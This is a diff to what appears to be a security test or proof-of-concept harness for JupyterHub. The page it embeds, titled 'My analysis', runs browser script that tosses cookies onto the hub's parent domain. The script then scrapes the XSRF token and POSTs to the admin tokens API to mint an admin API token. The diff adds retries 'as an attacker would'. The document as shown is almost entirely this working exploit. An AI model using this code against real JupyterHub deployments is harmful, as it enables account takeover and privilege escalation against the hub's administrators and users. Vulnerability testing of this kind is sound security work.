@@ -66,16 +66,22 @@ PAGE = """<!doctype html><html lang="en"><title>My analysis</title><p id="status
   // cookie tossing: cookies for the hub's parent domain, set from the participant's host
   for (const c of ['jupyterhub-session-id=tossed', '_xsrf=tossed; path=/hub/', 'jupyterhub-hub-login=tossed; path=/hub/'])
     document.cookie = c + '; domain=' + new URL(HUB).hostname;
+  // up to three tries each, as an attacker would: the admin's other tabs (their lab loading) can renew the hub's
+  // _xsrf cookie between the read and the POST (a 403 "XSRF cookie does not match" seen once on a shared origin)
   for (const hub of [...new Set([location.origin, HUB])]) {
-    try {
-      const home = await (await fetch(hub + '/hub/home', {credentials: 'include'})).text();
-      const xsrf = (home.match(/xsrf_token: "([^"]+)"/) || [])[1];
-      if (!xsrf) { log.push(hub + ': no xsrf token'); continue; }
-      const r = await fetch(hub + '/hub/api/users/admin/tokens', {method: 'POST', credentials: 'include',
-        headers: {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'},
-        body: JSON.stringify({note: NOTE, expires_in: 600})});
-      log.push(hub + ': tokens ' + r.status);
-    } catch (e) { log.push(hub + ': blocked (' + e.name + ')'); }
+    for (let attempt = 0; attempt < 3; attempt++) {
+      try {
+        const home = await (await fetch(hub + '/hub/home', {credentials: 'include'})).text();
+        const xsrf = (home.match(/xsrf_token: "([^"]+)"/) || [])[1];
+        if (!xsrf) { log.push(hub + ': no xsrf token'); break; }
+        const r = await fetch(hub + '/hub/api/users/admin/tokens', {method: 'POST', credentials: 'include',
+          headers: {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'},
+          body: JSON.stringify({note: NOTE, expires_in: 600})});
+        log.push(hub + ': tokens ' + r.status);
+        if (r.ok) break;
+        await new Promise(done => setTimeout(done, 1000));
+      } catch (e) { log.push(hub + ': blocked (' + e.name + ')'); break; }
+    }
   }
   document.getElementById('status').textContent = 'done: ' + log.join('; ');
 })();
